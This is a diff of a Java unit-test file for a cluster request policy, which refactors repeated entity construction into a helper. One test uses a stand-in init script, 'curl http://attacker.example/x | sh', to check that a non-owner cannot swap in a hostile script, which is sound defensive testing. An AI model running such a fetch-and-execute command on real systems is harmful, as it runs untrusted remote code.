@@ -202,18 +202,7 @@ class ClusterRequestPolicyTest {
   @Test
   void capsCountTheOwnersRunningClustersAndCoresAtMaxPods() {
     ClusterRequest running = request("user@example.com", null, Map.of());
-    ClusterEntity entity =
-        new ClusterEntity(
-            "id-a",
-            "a",
-            "user@example.com",
-            "0.0",
-            "sandbox",
-            "ray",
-            running,
-            false,
-            30,
-            Instant.now());
+    ClusterEntity entity = cluster("id-a", "user@example.com", running);
     entity.markStarting("run-1", Instant.now());
     when(clusters.findByOwnerAndDesiredState("user@example.com", DesiredState.RUNNING))
         .thenReturn(List.of(entity));
@@ -247,18 +236,7 @@ class ClusterRequestPolicyTest {
   @Test
   void onlyTheOwnerAndAdminsChangeTheInitScript() {
     ClusterRequest spec = withInitScript(request("user@example.com", null, Map.of()), "echo hi");
-    ClusterEntity cluster =
-        new ClusterEntity(
-            "id-s",
-            "s",
-            "user@example.com",
-            "0.0",
-            "sandbox",
-            "ray",
-            spec,
-            false,
-            30,
-            Instant.now());
+    ClusterEntity cluster = cluster("id-s", "user@example.com", spec);
     ClusterRequestPolicy policy = policy(0, 0);
     ClusterRequest rewritten = withInitScript(spec, "curl http://attacker.example/x | sh");
     // A sharee (the route checked can_manage) edits the rest, not the script.
@@ -347,18 +325,7 @@ class ClusterRequestPolicyTest {
   @Test
   void anEditKeepsTheSecretsTheClusterReadsAndAddsOnlyGrantedOnes() {
     ClusterRequest spec = withSecrets(BOB, "A=secret:fin-db/pw", List.of("team-ml-x"));
-    ClusterEntity cluster =
-        new ClusterEntity(
-            "id-k",
-            "k",
-            "bob@example.com",
-            "0.0",
-            "sandbox",
-            "ray",
-            spec,
-            false,
-            30,
-            Instant.now());
+    ClusterEntity cluster = cluster("id-k", "bob@example.com", spec);
     ClusterRequestPolicy policy = secretPolicy();
     Caller bob = caller("bob@example.com");
     // Given by an admin (or granted once): an edit of something else keeps them.
@@ -374,18 +341,7 @@ class ClusterRequestPolicyTest {
   @Test
   void aClusterGoesToANewOwnerWithItsSecretsOnlyIfTheyAreTheirs() {
     ClusterRequest spec = withSecrets("fin@example.com", "DB=secret:fin-db/pw", List.of());
-    ClusterEntity cluster =
-        new ClusterEntity(
-            "id-t",
-            "t",
-            "fin@example.com",
-            "0.0",
-            "sandbox",
-            "ray",
-            spec,
-            false,
-            30,
-            Instant.now());
+    ClusterEntity cluster = cluster("id-t", "fin@example.com", spec);
     when(clusters.findById("id-t")).thenReturn(Optional.of(cluster));
     ClusterRequestPolicy policy = secretPolicy();
     Caller delegate = new Caller("workspace-service", Set.of(), false, true, null, "10.0.0.2");
@@ -395,19 +351,7 @@ class ClusterRequestPolicyTest {
         .hasMessageContaining("only an admin may give it");
     ClusterRequest open = withSecrets("fin@example.com", "DB=secret:shared-db/pw", List.of());
     when(clusters.findById("id-o"))
-        .thenReturn(
-            Optional.of(
-                new ClusterEntity(
-                    "id-o",
-                    "o",
-                    "fin@example.com",
-                    "0.0",
-                    "sandbox",
-                    "ray",
-                    open,
-                    false,
-                    30,
-                    Instant.now())));
+        .thenReturn(Optional.of(cluster("id-o", "fin@example.com", open)));
     assertThatCode(() -> policy.checkTransfer("id-o", BOB, delegate)).doesNotThrowAnyException();
     Caller admin = new Caller("root@example.com", Set.of(), true, false, null, "10.0.0.3");
     assertThatCode(() -> policy.checkTransfer("id-t", BOB, admin)).doesNotThrowAnyException();
@@ -456,6 +400,12 @@ class ClusterRequestPolicyTest {
             a.rayParams(),
             a.sparkConfig(),
             envFromSecrets));
+  }
+
+  /** A stopped cluster of {@code owner}'s, named after its id. */
+  private static ClusterEntity cluster(String id, String owner, ClusterRequest spec) {
+    return new ClusterEntity(
+        id, id.substring(3), owner, "0.0", "sandbox", "ray", spec, false, 30, Instant.now());
   }
 
   private static ClusterRequest withInitScript(ClusterRequest spec, String script) {
